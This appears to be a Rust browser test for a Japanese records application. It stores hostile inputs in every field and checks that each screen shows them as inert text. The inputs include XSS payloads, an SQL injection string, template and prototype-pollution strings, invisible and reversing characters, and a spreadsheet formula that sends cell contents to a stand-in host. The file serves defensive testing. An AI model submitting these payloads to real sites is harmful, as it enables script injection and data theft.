//! A room full of hostile texts, seen in the real window: every one stands there as the text that it is.

use std::collections::BTreeSet;

use fantoccini::key::Key;
use hensobo_core::domain::text::{Reason, TrayLabel};
use hensobo_tests::hostile::hostile_texts;
use serde_json::{Value, json};

use crate::cli::Cli;
use crate::desk::Desk;
use crate::home::Home;
use crate::job;
use crate::pictures::Album;

const ADMINISTRATOR: &str = "<img src=x onerror=__ran=1>";
const TERMINAL: &str = "\"><script>__ran=1</script>";
const TITLE: &str = "</main><script>__ran=1</script>";

/// 氏名, 所属 and 担当業務 of people who are enrolled.
const PEOPLE: [[&str; 3]; 5] = [
    ["<svg onload=__ran=1>", "{{constructor.constructor('__ran=1')()}}", "<plaintext>"],
    ["=HYPERLINK(\"http://h.invalid/?\"&A1,\"見る\")", "' OR '1'='1", "${__ran=1}"],
    ["\u{202e}txt.exe", "管\u{200b}理\u{200b}者", "<textarea>"],
    ["WWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW", "﷽﷽﷽﷽﷽﷽﷽﷽﷽﷽﷽﷽﷽﷽﷽﷽﷽﷽﷽﷽", "<!--"],
    ["__proto__", "<style>*{display:none}</style>", "constructor"],
];

/// 理由 of two corrections and of a discarded batch.
const REASONS: [&str; 3] = ["' onfocus=__ran=1 autofocus x='", "<details open ontoggle=__ran=1>", "</textarea><script>__ran=1</script>"];

/// What explains a difference: as long as a reason may be, without a place to break.
fn endless() -> String {
    "0".repeat(200)
}

/// 業者, 承諾番号, 引渡場所, 容器番号, 封印番号, 受領者.
const ROUND: [&str; 6] = [
    "<h1>大見出し</h1>",
    "\";__ran=1;//",
    "<body onload=__ran=1>",
    "<table><tr><td>",
    "<svg><style><img src onerror=__ran=1>",
    "<select onfocus=__ran=1 autofocus>",
];

/// 許可番号 and 許可の範囲.
const PERMIT: [&str; 2] = ["<script src=//h.invalid/x.js></script>", "<a href=javascript:__ran=1>押す</a>"];

/// 設置場所, ワイヤー錠の番号 and ウイルス対策の版.
const ENTRY: [&str; 3] =
    ["\" onfocus=__ran=1 autofocus x=\"", "</select><script>__ran=1</script>", "<iframe src=javascript:parent.__ran=1>"];

/// Every place with the key that opens it; the last by where the key lies on a foreign keyboard.
const PLACES: [(&str, char); 16] = [
    ("today", '1'),
    ("reception", '2'),
    ("rounds", '3'),
    ("where", '4'),
    ("variances", '5'),
    ("closing", '6'),
    ("weeks", '7'),
    ("campaigns", '8'),
    ("people", '9'),
    ("log", '0'),
    ("isolation", '-'),
    ("terminal", '='),
    ("forms", 'p'),
    ("backups", 'b'),
    ("retention", 'h'),
    ("erasures", 'e'),
];

const IS_OPEN: &str = r#"return document.querySelector(`[data-test="nav-${arguments[0]}"]`)?.getAttribute("aria-current") === "page";"#;

/// Everything that can be read on the page: its text, and what stands in its fields.
const EVERYTHING: &str = r#"
    const fields = [...document.querySelectorAll("input, textarea")].map((it) => it.value);
    const choices = [...document.querySelectorAll("option")].map((it) => it.textContent);
    return [document.body.textContent, ...fields, ...choices].join("\n");
"#;

/// Whatever can be scrolled sideways, but for a table in its own frame; and on a card, which clips nothing, whatever leaves it.
const STICKS_OUT: &str = r#"
    const scrolls = (it) => ["auto", "scroll"].includes(getComputedStyle(it).overflowX) && it.querySelector(":scope > table") === null;
    const boxes = [document.documentElement, ...[...document.body.querySelectorAll("*")].filter(scrolls)];
    const wide = boxes.filter((it) => it.scrollWidth > it.clientWidth + 1);
    const card = document.querySelector("main.card");
    const edges = card?.getBoundingClientRect();
    const leaves = (it) => it.left < edges.left - 1 || it.right > edges.right + 1;
    const outside = [...(card?.querySelectorAll("*") ?? [])].filter((it) => it.getClientRects().length > 0 && leaves(it.getBoundingClientRect()));
    return [...wide, ...outside].map((it) => `${it.tagName} ${it.scrollWidth} ${it.clientWidth}`);
"#;

/// Puts something into the screen that is too wide for any.
const WIDEN: &str = r#"
    const wide = document.createElement("p");
    wide.dataset.wide = "";
    wide.style.cssText = "inline-size: 9000px; max-inline-size: none; flex: none";
    (document.querySelector("main .screen") ?? document.querySelector("main")).append(wide);
"#;

/// Takes it away again.
const NARROW: &str = r#"document.querySelector("[data-wide]").remove();"#;

/// What a hostile text would have left behind.
const TRACES: &str = r#"
    const foreign = "iframe, object, embed, base, form[action], a[href^='javascript'], h1 + h1, plaintext, details[ontoggle], [onerror], [onload]";
    return [window.__ran ?? null, document.querySelectorAll(foreign).length, document.querySelectorAll("main").length];
"#;

/// The labels of trays that the hostile texts give, each once.
fn trays() -> BTreeSet<String> {
    hostile_texts().iter().filter_map(|it| TrayLabel::parse(it).ok()).map(|it| it.as_str().to_owned()).collect()
}

/// An option with its value, which may begin with a hyphen.
fn option(name: &str, value: &str) -> String {
    format!("--{name}={value}")
}

/// Hands a round over.
fn a_round(cli: &Cli<'_>) {
    let [contractor, approval, place, label, seal, taker] = ROUND;
    let days = ["round", "plan", "--on", "2020-12-11", "--cutoff-on", "2020-12-11"];
    let parties = [option("contractor", contractor), option("approval-number", approval), option("place", place)];
    let parties: Vec<&str> = parties.iter().map(String::as_str).collect();
    let round = cli.does(&[days.as_slice(), &parties].concat()).trim().to_owned();
    cli.does(&["round", "pack", &round]);
    let container = option("container", &format!("{label}={seal}"));
    cli.does(&["round", "seal", &round, &container]);
    let batches = cli.tells(&["round", "show", &round])["row"]["batches"].to_string();
    let door = ["--on", "2020-12-11", "--batches", &batches, &container, &option("taken-by", taker)];
    cli.does(&[["round", "handover", &round].as_slice(), &door].concat());
}

/// Fills a room with them.
fn fill(cli: &Cli<'_>) {
    cli.found(ADMINISTRATOR, TERMINAL);
    cli.open_campaign_called(TITLE);
    let mut rows = csv::Writer::from_writer(b"received_on,tray,quantity\n".to_vec());
    for tray in trays() {
        rows.write_record(["2020-12-01", &tray, "10"]).expect("a row");
    }
    let rows = String::from_utf8(rows.into_inner().expect("the rows")).expect("text");
    cli.does(&["batch", "import", &cli.file("trays.csv", &rows)]);
    for (place, [name, affiliation, duties]) in PEOPLE.iter().enumerate() {
        let login = option("login", &format!("hostile-{place}"));
        let words = [login, option("name", name), option("affiliation", affiliation), option("duties", duties)];
        let words: Vec<&str> = words.iter().map(String::as_str).collect();
        cli.does(&[["person", "enroll", "--role", "clerk"].as_slice(), &words].concat());
    }
    for (number, reason) in ["1-000001", "1-000002"].iter().zip(REASONS) {
        cli.does(&["batch", "correct", number, "--quantity", "9", &option("reason", reason)]);
    }
    cli.does(&["batch", "discard", "1-000003", &option("reason", REASONS[2])]);
    let report = ["variance", "report", "1-000004", "--place", "shelf", "--found", "9", "--reason", "recount"];
    cli.does(&[report.as_slice(), &[&option("words", &endless())]].concat());
    a_round(cli);
    let [number, scope] = PERMIT.map(str::to_owned);
    cli.does(&["isolation", "permit", &option("number", &number), &option("scope", &scope), "--until", "2199-03-31"]);
    let [place, lock, version] = ENTRY;
    let entry = [option("place", place), option("wire-lock", lock), option("antivirus-version", version)];
    let entry: Vec<&str> = entry.iter().map(String::as_str).collect();
    cli.does(&[["terminal", "revise"].as_slice(), &entry].concat());
}

/// Nothing ran, nothing was refused, nothing stands there that is not the room's own, and nothing sticks out; returns what can be read.
fn is_whole(desk: &Desk, where_: &str) -> String {
    assert_eq!(desk.look(TRACES, &[]), json!([Value::Null, 0, 1]), "{where_}");
    assert_eq!(desk.take_refused(), [] as [&str; 0], "{where_}");
    let sticking = desk.look(STICKS_OUT, &[]);
    if sticking != json!([]) {
        desk.stop(&format!("{where_} sticks out: {sticking}"));
    }
    desk.look(EVERYTHING, &[]).as_str().unwrap_or_default().to_owned()
}

/// The positive control of [`STICKS_OUT`].
fn what_sticks_out_is_seen(desk: &Desk) {
    desk.look(WIDEN, &[]);
    assert_ne!(desk.look(STICKS_OUT, &[]), json!([]), "nine thousand pixels fit nowhere");
    desk.look(NARROW, &[]);
    assert_eq!(desk.look(STICKS_OUT, &[]), json!([]));
}

fn go(desk: &Desk, (place, key): (&str, char)) {
    desk.press_with(Key::Alt, key);
    desk.wait_until(&format!("{place} is open"), || desk.look(IS_OPEN, &[place]) == true);
    // What the screen asks the room for has come when it has been still for a moment.
    std::thread::sleep(std::time::Duration::from_millis(700));
}

/// One blank for any number of them, as a page shows them.
fn folded(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// What a place shows when something on it is opened.
fn closer(desk: &Desk, place: &str) -> String {
    match place {
        "reception" => {
            desk.fill("reception-day", "R2.12.1");
            desk.press(Key::Enter);
            desk.read_until("reception-shown-day", "令和2年12月1日");
            desk.see("trays");
            desk.press(Key::F6);
            desk.wait_until("a tray can be corrected", || desk.focus() == "correct");
            desk.press(Key::Enter);
            desk.see("batch-quantity");
            let read = is_whole(desk, "the dialog of a correction");
            desk.press(Key::Escape);
            read
        }
        "rounds" => {
            desk.push("round-1");
            desk.see("round-title");
            desk.see("round-containers");
            is_whole(desk, "a round")
        }
        "where" => {
            desk.fill("where-text", REASONS[0]);
            desk.press(Key::Enter);
            desk.see("batch-card");
            is_whole(desk, "a batch")
        }
        "people" => {
            desk.push("person-open");
            desk.see("person-name");
            is_whole(desk, "a person")
        }
        _ => String::new(),
    }
}

#[test]
fn every_screen_shows_hostile_texts_as_texts_and_none_of_them_runs_or_breaks_it() {
    let home = Home::new();
    fill(&Cli::new(&home));
    let desk = Desk::open(&home);
    is_whole(&desk, "sign-in");
    job::sign_in(&desk, &Album::none());
    let mut read = String::new();
    for place in PLACES {
        go(&desk, place);
        read += &is_whole(&desk, place.0);
        read += &closer(&desk, place.0);
    }
    what_sticks_out_is_seen(&desk);
    desk.press_with(Key::Control, 'l');
    desk.see("lock-password");
    read += &is_whole(&desk, "lock");
    what_sticks_out_is_seen(&desk);
    everything_was_read(&folded(&read));
}

/// What the room keeps of a text: one line, without characters that nobody sees.
fn kept(text: &str) -> String {
    let kept = Reason::parse(text).expect("a text that the room takes");
    folded(kept.as_str())
}

fn everything_was_read(read: &str) {
    assert!(!read.contains(['\u{202e}', '\u{200b}']), "a line turns around, or two texts look alike that are not");
    let fixed = [ADMINISTRATOR, TERMINAL, TITLE].into_iter().chain(PEOPLE.into_iter().flatten()).chain(ROUND).chain(PERMIT);
    let fixed = fixed.chain(REASONS).chain(ENTRY).map(str::to_owned);
    let all: Vec<String> = fixed.chain([endless()]).chain(trays()).collect();
    let missing: Vec<&String> = all.iter().filter(|it| !read.contains(&kept(it))).collect();
    assert!(missing.is_empty(), "{} of {} stand nowhere as text: {missing:#?}", missing.len(), all.len());
}
